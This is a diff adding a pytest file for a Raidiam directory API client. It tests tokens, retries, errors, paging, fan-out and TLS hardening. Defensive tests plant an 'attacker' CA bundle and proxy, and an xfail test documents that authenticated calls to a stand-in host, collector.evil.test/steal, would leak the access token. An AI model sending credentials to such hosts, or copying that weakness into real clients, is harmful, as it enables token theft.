@@ -1,0 +1,788 @@
+"""``RaidiamClient`` API calls: URLs, headers, token renewal on 401, retries, errors, paging, fan-out.
+
+HTTP is stubbed with ``responses`` except where the real adapter must run (per-request TLS arguments,
+plain HTTP, the environment): those tests aim at a closed local port and never leave the machine.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import email.utils
+import json
+import random
+import threading
+import time
+import uuid
+from collections.abc import Callable, Iterator
+from typing import Any
+from urllib.parse import parse_qs, urlsplit
+
+import jwt
+import pytest
+import requests
+import responses
+
+from airflow_provider_raidiam.client import INTERACTION_HEADER, RaidiamClient
+from airflow_provider_raidiam.credentials import TlsMaterial, build_tls_material
+from airflow_provider_raidiam.exceptions import (
+    ApiError,
+    BindingError,
+    ConfigurationError,
+    DiscoveryError,
+    PaginationError,
+    ResponseFormatError,
+)
+from airflow_provider_raidiam.http import RetryPolicy
+
+CLOSED_PORT_URL = "https://127.0.0.1:1/nothing-listens-here"
+
+
+@pytest.fixture(scope="module")
+def shared_tls(pki: Any) -> TlsMaterial:
+    """TLS material of the ``tls-client`` identity, built once for the module (building it is tested elsewhere)."""
+    return build_tls_material(
+        ca_bundle=str(pki.ca_cert),
+        transport_cert=str(pki.cert("tls-client")),
+        transport_key=str(pki.key("tls-client")),
+        passphrase=None,
+    )
+
+
+@pytest.fixture
+def client(tls_settings: Callable[..., Any], kit: Any, shared_tls: TlsMaterial) -> Iterator[RaidiamClient]:
+    with RaidiamClient(tls_settings(), retry=kit.FAST_RETRY) as raidiam:
+        raidiam.tls = shared_tls  # type: ignore[misc]  # pre-fill the cached property
+        yield raidiam
+
+
+def test_client_builds_its_tls_material_from_the_settings(
+    tls_settings: Callable[..., Any], kit: Any, pki: Any, api: responses.RequestsMock
+) -> None:
+    token = jwt.encode({"cnf": {"x5t#S256": pki.thumbprint("tls-client")}}, "k" * 32, algorithm="HS256")
+    api.replace(responses.POST, kit.MTLS_TOKEN_ENDPOINT, json=kit.token_body(token))
+
+    with RaidiamClient(tls_settings(), retry=kit.FAST_RETRY) as raidiam:
+        assert raidiam.tls.certificate is not None
+        assert raidiam.tls.certificate.thumbprint == pki.thumbprint("tls-client")
+        assert raidiam.tls.mtls_context is not None
+        # The token bound to this certificate passes the binding check.
+        assert raidiam.access_token() == token
+
+
+@pytest.fixture
+def api(mocked: responses.RequestsMock, kit: Any) -> responses.RequestsMock:
+    """``mocked`` with discovery and a token endpoint issuing tok-1, tok-2, ... in turn."""
+    kit.register_discovery(mocked)
+    counter = iter(range(1, 1000))
+
+    def token(_request: Any) -> tuple[int, dict[str, str], str]:
+        return 200, {"Content-Type": "application/json"}, kit.json(kit.token_body(f"tok-{next(counter)}"))
+
+    mocked.add_callback(responses.POST, kit.MTLS_TOKEN_ENDPOINT, callback=token)
+    return mocked
+
+
+def api_calls(mock: responses.RequestsMock, kit: Any) -> list[Any]:
+    return [c.request for c in mock.calls if c.request.url.startswith(kit.API_BASE)]
+
+
+def token_posts(mock: responses.RequestsMock) -> list[Any]:
+    return [c.request for c in mock.calls if c.request.method == "POST" and c.request.url.endswith("/token")]
+
+
+def query(request: Any) -> dict[str, str]:
+    return {key: values[0] for key, values in parse_qs(urlsplit(request.url).query).items()}
+
+
+@pytest.fixture
+def sleeps(monkeypatch: pytest.MonkeyPatch) -> list[float]:
+    """Record retry waits instead of sleeping (tenacity sleeps through ``time.sleep``)."""
+    recorded: list[float] = []
+    monkeypatch.setattr(time, "sleep", recorded.append)
+    return recorded
+
+
+# -- URLs and headers ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("endpoint", ["/organisations", "organisations"])
+def test_relative_endpoint_is_joined_to_api_base_url(
+    client: RaidiamClient, api: responses.RequestsMock, kit: Any, endpoint: str
+) -> None:
+    api.add(responses.GET, kit.API_BASE + "/organisations", json=[])
+
+    client.get_json(endpoint)
+
+    assert api_calls(api, kit)[0].url == kit.API_BASE + "/organisations"
+
+
+def test_params_are_sent(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
+    api.add(responses.GET, kit.API_BASE + "/organisations", json=[])
+
+    client.get_json("/organisations", {"status": "Active", "size": 5})
+
+    assert query(api_calls(api, kit)[0]) == {"status": "Active", "size": "5"}
+
+
+def test_absolute_https_url_is_used_as_is(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
+    url = kit.API_BASE + "/organisations/abc/softwarestatements"
+    api.add(responses.GET, url, json=[])
+
+    client.get_json(url)
+
+    assert api_calls(api, kit)[0].url == url
+
+
+def test_plain_http_url_is_refused_before_sending(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
+    with pytest.raises(ConfigurationError, match="https:// only"):
+        client.get_json("http://matls-api.example.test/organisations")
+
+    assert len(api.calls) == 0
+
+
+def test_no_api_base_url(tls_settings: Callable[..., Any], kit: Any) -> None:
+    client = RaidiamClient(tls_settings(api_base_url=None), retry=kit.FAST_RETRY)
+
+    with pytest.raises(ConfigurationError) as caught:
+        client.get_json("/organisations")
+
+    assert "no api_base_url" in str(caught.value)
+    assert "'api_base_url'" in str(caught.value)
+
+
+def test_bearer_token_and_interaction_id_on_every_request(
+    client: RaidiamClient, api: responses.RequestsMock, kit: Any
+) -> None:
+    api.add(responses.GET, kit.API_BASE + "/organisations", json=[])
+
+    for _ in range(3):
+        client.get_json("/organisations")
+
+    calls = api_calls(api, kit)
+    assert len(calls) == 3
+    assert [c.headers["Authorization"] for c in calls] == ["Bearer tok-1"] * 3
+    assert all(c.headers["Accept"] == "application/json" for c in calls)
+    ids = [c.headers[INTERACTION_HEADER] for c in calls]
+    assert len(set(ids)) == 3
+    assert all(str(uuid.UUID(value)) == value for value in ids)
+    assert len(token_posts(api)) == 1
+    # The token was requested over the mTLS alias, and discovery once.
+    assert token_posts(api)[0].url == kit.MTLS_TOKEN_ENDPOINT
+    assert [c.request.url for c in api.calls if c.request.url == kit.DISCOVERY_URL] == [kit.DISCOVERY_URL]
+
+
+def test_caller_headers_are_added(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
+    api.add(responses.GET, kit.API_BASE + "/organisations", json=[])
+
+    client.request("GET", "/organisations", headers={"X-Extra": "1"})
+
+    sent = api_calls(api, kit)[0].headers
+    assert sent["X-Extra"] == "1"
+    assert sent["Authorization"] == "Bearer tok-1"
+
+
+def test_public_request_sends_no_token(client: RaidiamClient, mocked: responses.RequestsMock) -> None:
+    url = "https://data.example.test/participants"
+    mocked.add(responses.GET, url, json=[{"OrganisationId": "o1"}])
+
+    assert client.get_public_json(url) == [{"OrganisationId": "o1"}]
+
+    sent = mocked.calls[0].request
+    assert "Authorization" not in sent.headers
+    assert INTERACTION_HEADER in sent.headers
+    assert len(mocked.calls) == 1  # no discovery, no token
+
+
+def test_unsupported_auth_method_is_reported(client: RaidiamClient, mocked: responses.RequestsMock, kit: Any) -> None:
+    kit.register_discovery(mocked, token_endpoint_auth_methods_supported=["private_key_jwt"])
+
+    with pytest.raises(DiscoveryError) as caught:
+        client.access_token()
+
+    assert "does not support auth_method 'tls_client_auth'" in str(caught.value)
+    assert "['private_key_jwt']" in str(caught.value)
+
+
+@pytest.mark.parametrize("with_certificate", [False, True])
+def test_private_key_jwt_routing_and_assertion(
+    tls_settings: Callable[..., Any], kit: Any, pki: Any, mocked: responses.RequestsMock, with_certificate: bool
+) -> None:
+    kit.register_discovery(mocked)
+    expected_endpoint = kit.MTLS_TOKEN_ENDPOINT if with_certificate else kit.TOKEN_ENDPOINT
+    mocked.add(responses.POST, expected_endpoint, json=kit.token_body("tok-pkj"))
+    extra: dict[str, Any] = {
+        "auth_method": "private_key_jwt",
+        "signing_key": str(pki.signing_key("rsa")),
+        "signing_key_id": pki.signing_key_id("rsa"),
+    }
+    if not with_certificate:
+        extra.update(transport_cert=None, transport_key=None)
+    client = RaidiamClient(tls_settings(**extra), retry=kit.FAST_RETRY)
+
+    assert client.access_token() == "tok-pkj"
+
+    post = token_posts(mocked)[0]
+    assert post.url == expected_endpoint
+    form = kit.form_of(post)
+    claims = jwt.decode(
+        form["client_assertion"],
+        jwt.PyJWK(pki.signing_jwk("rsa")).key,
+        algorithms=["PS256"],
+        audience=kit.ISSUER,
+    )
+    assert claims["iss"] == claims["sub"] == kit.CLIENT_ID
+    assert (client.tls.certificate is not None) is with_certificate
+
+
+def test_bound_token_without_certificate_is_refused(
+    tls_settings: Callable[..., Any], kit: Any, pki: Any, mocked: responses.RequestsMock
+) -> None:
+    kit.register_discovery(mocked)
+    bound = jwt.encode({"cnf": {"x5t#S256": pki.thumbprint("tls-client")}}, "k" * 32, algorithm="HS256")
+    mocked.add(responses.POST, kit.TOKEN_ENDPOINT, json=kit.token_body(bound))
+    settings = tls_settings(
+        auth_method="private_key_jwt",
+        signing_key=str(pki.signing_key("rsa")),
+        transport_cert=None,
+        transport_key=None,
+    )
+
+    with pytest.raises(BindingError, match="no transport certificate"):
+        RaidiamClient(settings, retry=kit.FAST_RETRY).access_token()
+
+
+# -- 401 -------------------------------------------------------------------------------------------
+
+
+def test_401_drops_the_token_and_retries_once_with_a_new_one(
+    client: RaidiamClient, api: responses.RequestsMock, kit: Any
+) -> None:
+    api.add(responses.GET, kit.API_BASE + "/organisations", status=401)
+    api.add(responses.GET, kit.API_BASE + "/organisations", json=[{"id": 1}])
+
+    assert client.get_json("/organisations") == [{"id": 1}]
+
+    calls = api_calls(api, kit)
+    assert [c.headers["Authorization"] for c in calls] == ["Bearer tok-1", "Bearer tok-2"]
+    assert len(token_posts(api)) == 2
+    assert client.access_token() == "tok-2"  # the new token is the cached one
+
+
+def test_second_401_is_an_api_error(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
+    api.add(
+        responses.GET,
+        kit.API_BASE + "/organisations",
+        status=401,
+        headers={"WWW-Authenticate": 'Bearer error="invalid_token"'},
+    )
+
+    with pytest.raises(ApiError) as caught:
+        client.get_json("/organisations")
+
+    assert caught.value.status == 401
+    assert "same transport certificate" in str(caught.value)
+    assert 'error="invalid_token"' in str(caught.value)
+    assert len(api_calls(api, kit)) == 2
+    assert len(token_posts(api)) == 2
+
+
+# -- retries ---------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("status", [500, 502, 503, 504, 429])
+def test_transient_statuses_are_retried(
+    client: RaidiamClient, api: responses.RequestsMock, kit: Any, status: int
+) -> None:
+    api.add(responses.GET, kit.API_BASE + "/organisations", status=status)
+    api.add(responses.GET, kit.API_BASE + "/organisations", json={"ok": True})
+
+    assert client.get_json("/organisations") == {"ok": True}
+    assert len(api_calls(api, kit)) == 2
+
+
+def test_retries_give_up_with_an_api_error(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
+    api.add(responses.GET, kit.API_BASE + "/organisations", status=503)
+
+    with pytest.raises(ApiError) as caught:
+        client.get_json("/organisations")
+
+    assert caught.value.status == 503
+    assert "kept failing after the retries" in str(caught.value)
+    assert len(api_calls(api, kit)) == kit.FAST_RETRY.attempts
+
+
+def test_non_idempotent_requests_are_not_retried(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
+    api.add(responses.POST, kit.API_BASE + "/organisations", status=503)
+
+    with pytest.raises(ApiError):
+        client.request("POST", "/organisations", json={"name": "x"})
+
+    assert len(api_calls(api, kit)) == 1
+
+
+def test_connection_errors_are_retried_then_reported(
+    client: RaidiamClient, api: responses.RequestsMock, kit: Any
+) -> None:
+    api.add(responses.GET, kit.API_BASE + "/organisations", body=requests.ConnectionError("reset by peer"))
+
+    with pytest.raises(ApiError) as caught:
+        client.get_json("/organisations")
+
+    raised = caught.value
+    assert raised.status is None
+    assert "ConnectionError" in str(raised)
+    assert raised.interaction_id is not None
+    assert raised.interaction_id in str(raised)
+    assert "tok-1" not in str(raised)
+    assert len(api_calls(api, kit)) == kit.FAST_RETRY.attempts
+
+
+def test_429_retry_after_seconds_is_honoured(
+    tls_settings: Callable[..., Any], api: responses.RequestsMock, kit: Any, sleeps: list[float]
+) -> None:
+    client = RaidiamClient(tls_settings(), retry=RetryPolicy(attempts=3, initial_wait=0.001, max_wait=10))
+    api.add(responses.GET, kit.API_BASE + "/organisations", status=429, headers={"Retry-After": "7"})
+    api.add(responses.GET, kit.API_BASE + "/organisations", json=[])
+
+    client.get_json("/organisations")
+
+    assert sleeps == [7.0]
+
+
+def test_429_retry_after_http_date_is_honoured(
+    tls_settings: Callable[..., Any], api: responses.RequestsMock, kit: Any, sleeps: list[float]
+) -> None:
+    client = RaidiamClient(tls_settings(), retry=RetryPolicy(attempts=3, initial_wait=0.001, max_wait=10))
+    when = email.utils.formatdate(time.time() + 5, usegmt=True)
+    api.add(responses.GET, kit.API_BASE + "/organisations", status=429, headers={"Retry-After": when})
+    api.add(responses.GET, kit.API_BASE + "/organisations", json=[])
+
+    client.get_json("/organisations")
+
+    assert len(sleeps) == 1
+    assert 3.0 < sleeps[0] <= 5.0
+
+
+def test_retry_after_is_capped(
+    tls_settings: Callable[..., Any], api: responses.RequestsMock, kit: Any, sleeps: list[float]
+) -> None:
+    client = RaidiamClient(tls_settings(), retry=RetryPolicy(attempts=3, initial_wait=0.001, max_wait=2))
+    api.add(responses.GET, kit.API_BASE + "/organisations", status=429, headers={"Retry-After": "3600"})
+    api.add(responses.GET, kit.API_BASE + "/organisations", json=[])
+
+    client.get_json("/organisations")
+
+    assert sleeps == [2.0]
+
+
+def test_retry_after_really_waits_when_small(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
+    # No sleep stub here: the tiny real wait happens, and the cap (FAST_RETRY.max_wait) bounds it.
+    api.add(responses.GET, kit.API_BASE + "/organisations", status=429, headers={"Retry-After": "30"})
+    api.add(responses.GET, kit.API_BASE + "/organisations", json=[])
+    started = time.monotonic()
+
+    client.get_json("/organisations")
+
+    assert time.monotonic() - started < 2.0
+    assert len(api_calls(api, kit)) == 2
+
+
+# -- error responses -------------------------------------------------------------------------------
+
+
+def test_404_is_an_api_error_with_raidiam_errors(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
+    url = kit.API_BASE + "/organisations/missing"
+    api.add(responses.GET, url, status=404, json={"errors": ["Organisation not found", "check the id"]})
+
+    with pytest.raises(ApiError) as caught:
+        client.get_json("/organisations/missing")
+
+    raised = caught.value
+    sent_id = api_calls(api, kit)[0].headers[INTERACTION_HEADER]
+    assert raised.status == 404
+    assert raised.errors == ["Organisation not found", "check the id"]
+    assert raised.interaction_id == sent_id
+    assert raised.url == url
+    message = str(raised)
+    assert "HTTP 404" in message
+    assert "Organisation not found; check the id" in message
+    assert "Check the endpoint path" in message
+    assert sent_id in message
+    assert "tok-1" not in message
+    assert len(api_calls(api, kit)) == 1  # not retried
+
+
+def test_server_interaction_id_wins(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
+    api.add(responses.GET, kit.API_BASE + "/x", status=403, json={"errors": []}, headers={INTERACTION_HEADER: "srv-1"})
+
+    with pytest.raises(ApiError) as caught:
+        client.get_json("/x")
+
+    assert caught.value.interaction_id == "srv-1"
+    assert "scope or roles" in str(caught.value)
+
+
+def test_error_with_html_body(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
+    api.add(responses.GET, kit.API_BASE + "/x", status=400, body="<html>bad</html>", content_type="text/html")
+
+    with pytest.raises(ApiError) as caught:
+        client.get_json("/x")
+
+    assert caught.value.errors == []
+    assert caught.value.status == 400
+
+
+def test_raise_for_status_false_returns_the_response(
+    client: RaidiamClient, api: responses.RequestsMock, kit: Any
+) -> None:
+    api.add(responses.GET, kit.API_BASE + "/x", status=404, json={"errors": ["nope"]})
+
+    response = client.request("GET", "/x", raise_for_status=False)
+
+    assert response.status_code == 404
+
+
+@pytest.mark.parametrize("body", ["<html>maintenance</html>", '{"content": [', ""], ids=["html", "truncated", "empty"])
+def test_non_json_success_body(client: RaidiamClient, api: responses.RequestsMock, kit: Any, body: str) -> None:
+    api.add(responses.GET, kit.API_BASE + "/organisations", body=body, content_type="text/html")
+
+    with pytest.raises(ResponseFormatError) as caught:
+        client.get_json("/organisations")
+
+    assert isinstance(caught.value, ApiError)
+    assert caught.value.status == 200
+    assert "not valid JSON" in str(caught.value)
+    assert f"{len(body)} bytes" in str(caught.value)
+
+
+# -- paging ----------------------------------------------------------------------------------------
+
+
+def serve_pages(
+    mock: responses.RequestsMock,
+    url: str,
+    records: list[dict[str, Any]],
+    *,
+    total_size: Callable[[int, int], int] | None = None,
+) -> list[dict[str, str]]:
+    """Serve ``records`` as Raidiam page envelopes; returns the query of every page request.
+
+    ``total_size(page, request_number)`` may lie about ``totalSize``.
+    """
+    seen: list[dict[str, str]] = []
+
+    def callback(request: Any) -> tuple[int, dict[str, str], str]:
+        params = query(request)
+        seen.append(params)
+        page, size = int(params["page"]), int(params["size"])
+        content = records[page * size : (page + 1) * size]
+        total_pages = max(1, -(-len(records) // size))
+        total = total_size(page, len(seen)) if total_size else len(records)
+        body = {
+            "content": content,
+            "totalPages": total_pages,
+            "totalSize": total,
+            "pageNumber": page,
+            "size": size,
+            "numberOfElements": len(content),
+            "empty": not content,
+        }
+        return 200, {"Content-Type": "application/json"}, json.dumps(body)
+
+    mock.add_callback(responses.GET, url, callback=callback)
+    return seen
+
+
+def test_paginate_reads_every_page(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
+    records = [{"id": i} for i in range(7)]
+    seen = serve_pages(api, kit.API_BASE + "/organisations", records)
+
+    result = list(client.paginate("/organisations", {"status": "Active"}, page_size=3))
+
+    assert result == records
+    assert sorted(int(p["page"]) for p in seen) == [0, 1, 2]
+    assert seen[0]["page"] == "0"
+    assert all(p["size"] == "3" for p in seen)
+    assert all(p["status"] == "Active" for p in seen)
+
+
+def test_paginate_uses_the_connection_page_size(
+    tls_settings: Callable[..., Any], api: responses.RequestsMock, kit: Any
+) -> None:
+    client = RaidiamClient(tls_settings(page_size="4"), retry=kit.FAST_RETRY)
+    seen = serve_pages(api, kit.API_BASE + "/organisations", [{"id": i} for i in range(5)])
+
+    assert len(client.read_all_pages("/organisations")) == 5
+    assert [p["size"] for p in seen] == ["4", "4"]
+
+
+def test_empty_envelope(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
+    api.add(responses.GET, kit.API_BASE + "/x", json={"content": [], "totalPages": 0, "totalSize": 0})
+
+    assert list(client.paginate("/x")) == []
+    assert len(api_calls(api, kit)) == 1
+
+
+def test_plain_array_passes_through(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
+    api.add(responses.GET, kit.API_BASE + "/participants", json=[{"a": 1}, {"a": 2}])
+
+    assert list(client.paginate("/participants")) == [{"a": 1}, {"a": 2}]
+    assert len(api_calls(api, kit)) == 1
+
+
+def test_record_count_not_matching_total_size(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
+    api.add(responses.GET, kit.API_BASE + "/x", json={"content": [{"id": 1}], "totalPages": 1, "totalSize": 3})
+
+    with pytest.raises(PaginationError) as caught:
+        list(client.paginate("/x"))
+
+    assert "read 1 records" in str(caught.value)
+    assert "totalSize 3" in str(caught.value)
+    assert caught.value.url == kit.API_BASE + "/x"
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        {"content": [{"id": 1}], "totalPages": 1},
+        {"content": {"id": 1}, "totalPages": 1, "totalSize": 1},
+        {"content": [{"id": 1}], "totalPages": "1", "totalSize": 1},
+        {"content": [{"id": 1}], "totalPages": -1, "totalSize": 1},
+        {"content": [1, 2], "totalPages": 1, "totalSize": 2},
+        [1, 2],
+        "text",
+    ],
+    ids=["no-totalSize", "content-object", "string-pages", "negative", "scalar-records", "scalar-array", "string"],
+)
+def test_malformed_envelope(client: RaidiamClient, api: responses.RequestsMock, kit: Any, body: Any) -> None:
+    api.add(responses.GET, kit.API_BASE + "/x", json=body)
+
+    with pytest.raises(ResponseFormatError) as caught:
+        list(client.paginate("/x"))
+
+    assert "/x page 0" in str(caught.value)
+
+
+def test_total_size_change_restarts_the_read(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
+    records = [{"id": i} for i in range(4)]
+    # The first read sees totalSize move on page 1; the second read is consistent.
+    seen = serve_pages(
+        api,
+        kit.API_BASE + "/x",
+        records,
+        total_size=lambda page, number: 5 if (page == 1 and number <= 2) else len(records),
+    )
+
+    assert list(client.paginate("/x", page_size=2)) == records
+    assert [p["page"] for p in seen].count("0") == 2
+
+
+def test_total_size_that_keeps_changing(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
+    records = [{"id": i} for i in range(4)]
+    seen = serve_pages(api, kit.API_BASE + "/x", records, total_size=lambda page, number: number)
+
+    with pytest.raises(PaginationError) as caught:
+        list(client.paginate("/x", page_size=2))
+
+    assert "totalSize kept changing" in str(caught.value)
+    assert "3 attempts" in str(caught.value)
+    assert [p["page"] for p in seen].count("0") == 3
+
+
+def test_failed_page_fails_the_read(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
+    def callback(request: Any) -> tuple[int, dict[str, str], str]:
+        page = int(query(request)["page"])
+        if page == 1:
+            return 404, {}, kit.json({"errors": ["gone"]})
+        return 200, {}, kit.json({"content": [{"id": page}], "totalPages": 3, "totalSize": 3})
+
+    api.add_callback(responses.GET, kit.API_BASE + "/x", callback=callback)
+
+    with pytest.raises(ApiError) as caught:
+        list(client.paginate("/x", page_size=1))
+
+    assert caught.value.status == 404
+    assert caught.value.errors == ["gone"]
+
+
+# -- TLS arguments, plain HTTP and the environment (real adapter, no network) -----------------------
+
+
+@pytest.mark.parametrize(
+    "kwargs",
+    [{"verify": False}, {"verify": "/etc/ssl/other-ca.pem"}, {"cert": ("/a.pem", "/a.key")}, {"cert": "/a.pem"}],
+)
+def test_per_request_tls_arguments_are_refused(
+    client: RaidiamClient, api: responses.RequestsMock, kit: Any, kwargs: dict[str, Any]
+) -> None:
+    # The API call goes through the real adapter (discovery and token stay stubbed): refused, it raises
+    # before connecting; accepted, it would reach the closed port and end as a connection error.
+    api.add_passthru(CLOSED_PORT_URL)
+
+    with pytest.raises(ConfigurationError) as caught:
+        client.request("GET", CLOSED_PORT_URL, **kwargs)
+
+    assert "per-request 'verify' and 'cert' arguments are not accepted" in str(caught.value)
+
+
+@pytest.mark.parametrize("kwargs", [{"verify": False}, {"cert": ("/a.pem", "/a.key")}])
+def test_sessions_refuse_per_request_tls_arguments(client: RaidiamClient, kwargs: dict[str, Any]) -> None:
+    for session in (client.mtls_session, client.public.session):
+        with pytest.raises(ConfigurationError):
+            session.get(CLOSED_PORT_URL, timeout=2, **kwargs)
+
+
+def test_sessions_refuse_plain_http(client: RaidiamClient) -> None:
+    for session in (client.mtls_session, client.public.session):
+        with pytest.raises(ConfigurationError, match="Refusing plain-HTTP URL"):
+            session.get("http://127.0.0.1:1/", timeout=2)
+
+
+def test_public_client_refuses_plain_http_url(client: RaidiamClient) -> None:
+    with pytest.raises(ConfigurationError, match="https:// only"):
+        client.get_public_json("http://data.example.test/participants")
+
+
+def test_redirect_to_plain_http_is_refused(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
+    api.add(responses.GET, kit.API_BASE + "/x", status=302, headers={"Location": "http://matls-api.example.test/x"})
+
+    with pytest.raises(ConfigurationError, match="Refusing plain-HTTP URL"):
+        client.get_json("/x")
+
+
+def test_requests_ca_bundle_env_var_is_ignored(
+    client: RaidiamClient, api: responses.RequestsMock, kit: Any, monkeypatch: pytest.MonkeyPatch, tmp_path: Any
+) -> None:
+    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(tmp_path / "attacker-ca.pem"))
+    monkeypatch.setenv("CURL_CA_BUNDLE", str(tmp_path / "attacker-ca.pem"))
+    monkeypatch.setenv("HTTPS_PROXY", "http://127.0.0.1:9")
+    api.add(responses.GET, kit.API_BASE + "/x", json=[])
+
+    client.get_json("/x")
+
+    for call in api.calls:
+        assert call.request.req_kwargs["verify"] is True, call.request.url
+        assert call.request.req_kwargs["cert"] is None
+        assert not call.request.req_kwargs["proxies"]
+    assert client.mtls_session.trust_env is False
+    assert client.public.session.trust_env is False
+
+
+def test_requests_ca_bundle_env_var_is_ignored_by_the_real_adapter(
+    client: RaidiamClient, api: responses.RequestsMock, monkeypatch: pytest.MonkeyPatch, tmp_path: Any
+) -> None:
+    # Were the env var read, requests would pass verify=<path> and the adapter would refuse the call;
+    # ignored, the call reaches the (closed) port and fails as a connection error.
+    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(tmp_path / "attacker-ca.pem"))
+    api.add_passthru(CLOSED_PORT_URL)
+
+    for call in (lambda: client.get_json(CLOSED_PORT_URL), lambda: client.get_public_json(CLOSED_PORT_URL)):
+        with pytest.raises(ApiError) as caught:
+            call()
+        assert "ConnectionError" in str(caught.value)
+
+
+# -- fan-out ---------------------------------------------------------------------------------------
+
+
+def test_fan_out_keeps_input_order(client: RaidiamClient) -> None:
+    rng = random.Random(3)
+    delays = [rng.uniform(0, 0.02) for _ in range(30)]
+
+    def work(index: int) -> int:
+        time.sleep(delays[index])
+        return index * 10
+
+    assert client.fan_out(work, range(30)) == [i * 10 for i in range(30)]
+    assert client.fan_out(work, []) == []
+
+
+def test_fan_out_is_bounded_by_max_workers(tls_settings: Callable[..., Any], kit: Any) -> None:
+    client = RaidiamClient(tls_settings(max_workers=3), retry=kit.FAST_RETRY)
+    active, peak, lock = [0], [0], threading.Lock()
+
+    def work(_item: int) -> None:
+        with lock:
+            active[0] += 1
+            peak[0] = max(peak[0], active[0])
+        time.sleep(0.01)
+        with lock:
+            active[0] -= 1
+
+    client.fan_out(work, range(12))
+    client.close()
+
+    assert 1 < peak[0] <= 3
+
+
+def test_fan_out_propagates_the_first_error(client: RaidiamClient) -> None:
+    def work(index: int) -> int:
+        if index == 3:
+            raise ValueError("item 3 failed")
+        if index == 7:
+            raise KeyError("item 7 failed")
+        return index
+
+    with pytest.raises(ValueError, match="item 3 failed"):
+        client.fan_out(work, range(10))
+
+
+def test_fan_out_error_cancels_work_not_started(tls_settings: Callable[..., Any], kit: Any) -> None:
+    client = RaidiamClient(tls_settings(max_workers=2), retry=kit.FAST_RETRY)
+    started: list[int] = []
+
+    def work(index: int) -> int:
+        started.append(index)
+        if index == 0:
+            raise RuntimeError("first item failed")
+        time.sleep(0.02)
+        return index
+
+    with pytest.raises(RuntimeError, match="first item failed"):
+        client.fan_out(work, range(50))
+    client.close()
+
+    assert len(started) < 50
+
+
+def test_nested_fan_out_runs_inline(tls_settings: Callable[..., Any], kit: Any) -> None:
+    client = RaidiamClient(tls_settings(max_workers=2), retry=kit.FAST_RETRY)
+
+    def outer(index: int) -> list[int]:
+        return client.fan_out(lambda inner: index * 100 + inner, range(3))
+
+    result = client.fan_out(outer, range(4))  # would deadlock with 2 workers if nested pools were used
+    client.close()
+
+    assert result == [[i * 100 + j for j in range(3)] for i in range(4)]
+
+
+def test_concurrent_requests_share_one_token(client: RaidiamClient, api: responses.RequestsMock, kit: Any) -> None:
+    api.add(responses.GET, kit.API_BASE + "/organisations/1", json={"id": 1})
+
+    results = client.fan_out(lambda _i: client.get_json("/organisations/1"), range(16))
+
+    assert results == [{"id": 1}] * 16
+    assert len(token_posts(api)) == 1
+    assert {c.headers["Authorization"] for c in api_calls(api, kit)} == {"Bearer tok-1"}
+
+
+# -- weaknesses ------------------------------------------------------------------------------------
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="WEAKNESS: client.url_for accepts any absolute https URL, so an authenticated request to another "
+    "host sends the Directory access token (and the client certificate) there; authenticated calls should be "
+    "limited to api_base_url's origin",
+)
+def test_authenticated_request_to_foreign_host_is_refused(
+    client: RaidiamClient, api: responses.RequestsMock, kit: Any
+) -> None:
+    api.add(responses.GET, "https://collector.evil.test/steal", json={})
+
+    with contextlib.suppress(ConfigurationError):  # refusing the call is the fix
+        client.get_json("https://collector.evil.test/steal")
+
+    leaked = [c for c in api.calls if c.request.url.startswith("https://collector.evil.test")]
+    assert leaked == []
